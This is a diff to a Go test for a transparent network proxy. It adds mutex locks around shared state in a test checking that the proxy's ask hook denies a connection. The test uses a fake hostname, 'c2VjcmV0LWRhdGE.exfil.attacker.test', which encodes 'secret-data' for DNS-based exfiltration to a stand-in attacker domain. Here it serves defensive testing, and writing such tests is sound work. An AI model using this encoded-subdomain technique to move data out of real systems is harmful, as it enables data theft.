@@ -29,13 +29,17 @@ func TestAskBeforeResolving(t *testing.T) {
 	orig := &originals{m: map[netip.AddrPort]netip.AddrPort{}}
 	tp := startProxy(t, Config{Engine: testEngine(t, "api.allowed.test:443"), Resolver: res, DNS: dns, Originals: orig,
 		Ask: func(ctx context.Context, q ask.Question) ask.Answer {
+			mu.Lock()
 			asked++
+			mu.Unlock()
 			return ask.Answer{Reply: ask.Deny, By: "test"}
 		}})
 	// transparent: the command resolved the name through the fake DNS
 	fake, _ := dns.Address("c2VjcmV0LWRhdGE.exfil.attacker.test")
 	local := netip.MustParseAddrPort("127.0.0.1:47123")
+	orig.mu.Lock()
 	orig.m[local] = netip.AddrPortFrom(fake, 443)
+	orig.mu.Unlock()
 	d := net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(local), Timeout: time.Second}
 	c, err := d.Dial("tcp", tp.addr)
 	if err != nil {
